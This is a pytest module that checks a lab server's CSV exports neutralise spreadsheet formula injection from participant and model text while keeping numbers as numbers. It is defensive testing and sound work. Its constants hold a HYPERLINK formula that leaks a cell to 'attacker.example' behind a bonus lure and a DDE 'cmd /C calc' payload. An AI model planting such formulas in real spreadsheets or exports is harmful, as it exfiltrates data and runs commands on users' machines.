"""Every CSV export neutralises spreadsheet formulas in text cells and leaves numbers alone (lab_server/outputs.py).

Participants put formula text wherever they can type: the PID and study id of their entry link (``-A1-B1`` is a
formula to Excel), DoND chat, a model's reply, social_eval reasoning and payoff remarks. Then every export the product
offers is downloaded as a researcher would (oTree's wide export, each app's export, every ``custom_export*`` of every
app, page times and chat; by URL with and without Excel's byte-order mark, and through the admin page's websocket),
and its cells are read: no text cell starts with ``= + - @``, tab or CR unless it is neutralised with ``'``; DoND's
points and a negative rating are still plain numbers; and ``backend.core.csvio.read_csv_any`` gives
back exactly what was typed.
"""

from __future__ import annotations

import asyncio
import csv
import io
import json
import os

import pytest
import requests
import websockets

from backend.core.csvio import FORMULA_STARTS, read_csv_any
from backend.core.llm.fake_server import Reply
from backend.social import forms as social_forms
from backend.social.rubrics import load_rubric
from harness.participants import Visitor
from harness.servers import create_session, export_rows, run_async
from tests.support.live import chat_until_the_model_replies, next_state, pair_and_start

pytestmark = pytest.mark.slow

APPS = ("dond", "social_eval", "payoff_reasoning_eval", "bias_tests")
STUDY_ID = "-A1-B1"
CHAT = '=HYPERLINK("http://attacker.example/?leak="&A1,"Click for your bonus")'
MODEL_REPLY = "@SUM(1+1)*cmd|' /C calc'!A0 is what I would like to offer you."
REASONING = "+1+2 I rated this agent by what it said in the second half of the talk."
REMARKS = "-2+3 looks fine to me, and the matrix matches the log."
TEXT_PAYLOADS = (CHAT, MODEL_REPLY, REASONING, REMARKS)


def visitors(server_url: str, config: str, count: int, prefix: str, **fields) -> list[Visitor]:
    session = create_session(server_url, config, count, participant_id_format="any", **fields)
    return [
        Visitor(server_url, session["code"], f"-{prefix}{number}-B1", study_id=STUDY_ID)
        for number in range(1, count + 1)
    ]


def play_dond_person_vs_person(server_url: str) -> None:
    """A comp-mode deal in which the speaker gives everything away, after a chat message that is a formula."""
    speaker, listener = visitors(server_url, "dond_human", 2, "D", mode="comp")
    pair_and_start([speaker, listener])
    if not speaker.js_vars()["view"]["can_message"]:
        speaker, listener = listener, speaker
    items = speaker.js_vars()["items"]
    everything = {item["id"]: item["count"] for item in items}
    nothing = {item["id"]: 0 for item in items}

    async def play():
        async with (
            websockets.connect(speaker.live_url(), max_size=None) as mine,
            websockets.connect(listener.live_url(), max_size=None) as theirs,
        ):
            await mine.send(json.dumps({"type": "message", "text": CHAT}))
            await next_state(mine, []), await next_state(theirs, [])
            await theirs.send(json.dumps({"type": "proposal", "counts": everything}))
            await next_state(theirs, []), await next_state(mine, [])
            await mine.send(json.dumps({"type": "proposal", "counts": nothing}))
            return await next_state(mine, [])

    assert run_async(play())["finished"]


def play_dond_against_the_model(server_url: str, llm_server) -> None:
    llm_server.script(Reply(text=MODEL_REPLY))
    [person] = visitors(server_url, "dond_llm", 1, "L", llm_model="test-model", first_mover="human")
    person.advance_to("Bargain")
    chat_until_the_model_replies(person, "What would you like?")


def rate_in_social_eval(server_url: str) -> None:
    rubric = load_rubric()
    [annotator] = visitors(server_url, "social_eval", 1, "R", attention_checks=0, annotators_per_episode=1)
    annotator.advance_to("Rate")
    form = {}
    for agent in social_forms.AGENTS:
        for slot, dimension in enumerate(rubric.dimensions, start=1):
            form[social_forms.rating_field(agent, slot)] = dimension.min
            form[social_forms.reason_field(agent, slot)] = REASONING
    before = annotator.url
    annotator.submit(form)
    assert annotator.url != before, "the rating form was not accepted"


def judge_in_payoff_reasoning(server_url: str) -> None:
    [judge] = visitors(server_url, "payoff_reasoning_eval", 1, "J", judges_per_log=1)
    judge.advance_to("Judge")
    before = judge.url
    judge.submit(dict(orig_cor=1, fin_cor=1, err_type="", marked_sentences="", remarks=REMARKS))
    assert judge.url != before, "the judgement was not accepted"


def answer_bias_tests(server_url: str) -> None:
    [person] = visitors(server_url, "bias_tests", 1, "B")
    person.submit(dict(consent_given="True")).submit({})
    assert person.page in ("Choice", "Arguments"), person.url


@pytest.fixture(scope="module")
def otree_server(own_otree_server):
    """A server of this module's own: the tests below read whole exports, which hold every session of the server."""
    return own_otree_server


@pytest.fixture(scope="module")
def filled_server(otree_server, _llm_server_instance):
    from backend.core.llm.fake_server import default_responder

    llm = _llm_server_instance
    llm.clear()
    llm.responder = default_responder
    play_dond_person_vs_person(otree_server.url)
    play_dond_against_the_model(otree_server.url, llm)
    rate_in_social_eval(otree_server.url)
    judge_in_payoff_reasoning(otree_server.url)
    answer_bias_tests(otree_server.url)
    llm.clear()
    return otree_server


def custom_export_names(server_url: str, app: str) -> list[str]:
    """The names of an app's custom exports, as oTree's Data Export page lists them."""
    import importlib

    module = importlib.import_module(app)
    return sorted(name for name in dir(module) if name.startswith("custom_export") and callable(getattr(module, name)))


def every_export_by_url(server_url: str) -> dict[str, str]:
    """Every CSV oTree serves by URL, as text: name -> file content (byte-order mark kept)."""
    headers = {"otree-rest-key": os.environ.get("OTREE_REST_KEY", "")}
    requests_to_make = {"wide": ("/api/export_wide", {}), "page times": ("/api/export_page_times", {})}
    requests_to_make["chat"] = ("/api/export_chat", {})
    requests_to_make["wide (admin page)"] = ("/ExportWide", {})
    requests_to_make["page times (admin page)"] = ("/ExportPageTimes", {})
    for app in APPS:
        requests_to_make[app] = ("/api/export_app", {"app": app})
        for name in custom_export_names(server_url, app):
            requests_to_make[f"{app}.{name}"] = ("/api/export_app_custom", {"app": app, "function_name": name})
    files = {}
    for label, (path, params) in requests_to_make.items():
        for excel in (False, True):
            query = dict(params, format="csv_bom") if excel else params
            response = requests.get(server_url + path, params=query, headers=headers, timeout=120)
            assert response.status_code == 200, f"{label}: HTTP {response.status_code}"
            text = response.content.decode("utf-8")
            assert text.startswith("\ufeff") == excel, label
            files[label + (" (Excel)" if excel else "")] = text
    return files


def every_export_by_websocket(server_url: str) -> dict[str, str]:
    """The exports the Data Export page downloads through its websocket (wide, per app, custom)."""
    asks = {"wide (websocket)": {}}
    for app in APPS:
        asks[f"{app} (websocket)"] = {"app_name": app}
        for name in custom_export_names(server_url, app):
            asks[f"{app}.{name} (websocket)"] = {"app_name": app, "is_custom": True, "function_name": name}

    async def fetch_all():
        files = {}
        async with websockets.connect(server_url.replace("http", "ws", 1) + "/export", max_size=None) as socket:
            for label, ask in asks.items():
                await socket.send(json.dumps(dict(ask, for_excel=True)))
                answer = json.loads(await asyncio.wait_for(socket.recv(), timeout=120))
                assert "error" not in answer, f"{label}: {answer.get('error')}"
                files[label] = answer["data"]
        return files

    return run_async(fetch_all())


def cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))


def is_plain_number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def test_no_text_cell_of_any_export_starts_a_formula_and_numbers_stay_numbers(filled_server):
    files = every_export_by_url(filled_server.url) | every_export_by_websocket(filled_server.url)
    assert len(files) >= 2 * (5 + 4 + 9) + 1 + 4 + 9, sorted(files)  # every app's custom exports included
    unsafe = [
        (name, cell)
        for name, text in files.items()
        for row in cells(text)
        for cell in row
        if cell[:1] in FORMULA_STARTS and not is_plain_number(cell)
    ]
    assert not unsafe, unsafe[:10]

    everything = {cell for text in files.values() for row in cells(text) for cell in row}
    # What was typed is there, neutralised: the PIDs and study ids of every app, chat, reply, reasoning, remarks.
    for typed in ("-D1-B1", "-L1-B1", "-R1-B1", "-J1-B1", "-B1-B1", STUDY_ID, *TEXT_PAYLOADS):
        assert "'" + typed in everything, f"{typed!r} is missing from every export"

    # Numbers stay numbers: DoND's points and scores, and the rubric's negative ratings (in every export they reach).
    games = cells(files["dond.custom_export_dond_games"])
    header, rows = games[0], games[1:]
    numeric = [row[header.index(name)] for row in rows for name in ("points_a", "points_b", "main_score")]
    assert any(numeric) and all(is_plain_number(value) for value in numeric if value), numeric
    ratings = cells(files["social_eval.custom_export_ratings_long"])
    column = ratings[0].index("rating")
    negative = [row[column] for row in ratings[1:] if row[column].startswith("-")]
    assert negative and all(is_plain_number(value) for value in negative), negative
    app_rows = cells(files["social_eval"])
    rating_columns = [index for index, name in enumerate(app_rows[0]) if name.startswith("player.rating")]
    negative = [row[index] for row in app_rows[1:] for index in rating_columns if row[index].startswith("-")]
    assert negative and all(is_plain_number(value) for value in negative), negative


def test_the_reports_reader_gets_back_exactly_what_was_typed(filled_server, tmp_path):
    headers = {"otree-rest-key": os.environ.get("OTREE_REST_KEY", "")}

    def download(function: str, app: str) -> list[dict]:
        params = {"app": app, "function_name": function, "format": "csv_bom"}
        response = requests.get(filled_server.url + "/api/export_app_custom", params=params, headers=headers)
        path = tmp_path / f"{function}.csv"
        path.write_bytes(response.content)
        return read_csv_any(path, keep_default_na=False).to_dict("records")

    texts = {row["text"] for row in download("custom_export_dond_events", "dond")}
    assert {CHAT, MODEL_REPLY} <= texts
    assert REASONING in {row["reasoning"] for row in download("custom_export_ratings_long", "social_eval")}
    protocol = download("custom_export_protocol_with_ids", "payoff_reasoning_eval")
    assert REMARKS in {row["remarks"] for row in protocol}
    assert STUDY_ID in {row["study_id"] for row in protocol}
    # The same cells through the harness's plain csv reader: neutralised, as a spreadsheet gets them.
    plain = export_rows(filled_server.url, "social_eval", "custom_export_ratings_long")
    assert "'" + REASONING in {row["reasoning"] for row in plain}


def test_the_writers_oTree_does_not_route_through_its_csv_helper_are_rewritten_cell_by_cell():
    """Page times and chat have their own writers (no participant text reaches them in these apps, so the downloads
    above cannot show it): their output is parsed and every cell neutralised, numeric text left as it is."""
    from lab_server.outputs import neutralising

    def chat_like(fp, session_code=None):
        fp.write("session_code,body,timestamp\n")
        fp.write(f'ab12,"{CHAT.replace(chr(34), chr(34) * 2)}",1764000000.25\nab12,-3,-1.5\n')

    buffer = io.StringIO()
    neutralising(chat_like)(buffer, session_code="ab12")
    assert cells(buffer.getvalue()) == [
        ["session_code", "body", "timestamp"],
        ["ab12", "'" + CHAT, "1764000000.25"],
        ["ab12", "-3", "-1.5"],
    ]
